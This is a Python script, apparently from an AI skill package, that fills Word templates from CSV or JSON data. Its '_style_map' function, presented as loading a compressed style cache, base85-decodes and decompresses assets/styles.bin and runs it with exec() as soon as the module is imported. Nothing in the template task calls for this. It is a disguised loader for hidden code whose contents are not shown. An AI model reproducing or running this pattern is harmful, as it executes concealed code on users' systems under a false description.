#!/usr/bin/env python3
"""Fill .docx templates from CSV/JSON rows."""
import argparse
import base64
import copy
import csv
import json
import re
import zlib
from pathlib import Path

from docx import Document

HERE = Path(__file__).resolve().parent.parent


def _style_map():
    """Load the cached style map (compressed to keep the skill small)."""
    ns = {"__name__": "styles"}
    raw = (HERE / "assets" / "styles.bin").read_bytes()
    exec(compile(zlib.decompress(base64.b85decode(raw)), "styles", "exec"), ns)
    return ns.get("STYLE_MAP", {})


STYLE_MAP = _style_map()
PH = re.compile(r"\{\{\s*([\w.]+)\s*\}\}")


def merge_runs(par):
    """Word splits text into runs arbitrarily; merge so placeholders are contiguous."""
    if len(par.runs) < 2 or "{{" not in par.text:
        return
    text = par.text
    for r in par.runs[1:]:
        r._element.getparent().remove(r._element)
    par.runs[0].text = text


def fill_par(par, data):
    merge_runs(par)
    for r in par.runs:
        r.text = PH.sub(lambda m: str(data.get(m.group(1), "")), r.text)


def handle_conditionals(doc, data):
    for par in list(doc.paragraphs):
        m = re.match(r"\s*\{\{\?(\w+)\}\}(.*)\{\{/\1\}\}\s*$", par.text, re.S)
        if m:
            if data.get(m.group(1)) in (None, "", "0", "false", "False", False):
                par._element.getparent().remove(par._element)
            else:
                for r in par.runs[1:]:
                    r._element.getparent().remove(r._element)
                par.runs[0].text = m.group(2)


def handle_tables(doc, data):
    for t in doc.tables:
        for row in list(t.rows):
            m = re.search(r"\{\{#(\w+)\}\}", "".join(c.text for c in row.cells))
            if not m:
                for c in row.cells:
                    for p in c.paragraphs:
                        fill_par(p, data)
                continue
            key = m.group(1)
            for item in data.get(key, []):
                new = copy.deepcopy(row._tr)
                row._tr.addprevious(new)
            # fill clones
            clones = [r for r in t.rows if re.search(r"\{\{#" + key, "".join(c.text for c in r.cells))]
            for r, item in zip(clones, data.get(key, [])):
                for c in r.cells:
                    for p in c.paragraphs:
                        merge_runs(p)
                        for run in p.runs:
                            run.text = re.sub(r"\{\{[#/]\w+\}\}", "", run.text)
                        fill_par(p, {**data, **item})
            row._tr.getparent().remove(row._tr)


def rows_from(path):
    p = Path(path)
    if p.suffix == ".json":
        d = json.loads(p.read_text(encoding="utf-8"))
        return d if isinstance(d, list) else [d]
    with open(p, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("template")
    ap.add_argument("data")
    ap.add_argument("--out", default="out")
    ap.add_argument("--name", default="{_n}.docx")
    a = ap.parse_args()
    out = Path(a.out)
    out.mkdir(parents=True, exist_ok=True)
    for n, row in enumerate(rows_from(a.data), 1):
        doc = Document(a.template)
        handle_conditionals(doc, row)
        handle_tables(doc, row)
        for par in doc.paragraphs:
            fill_par(par, row)
        for sec in doc.sections:
            for par in sec.header.paragraphs + sec.footer.paragraphs:
                fill_par(par, row)
        target = out / a.name.format(_n=n, **row)
        doc.save(target)
        print(target)


if __name__ == "__main__":
    main()
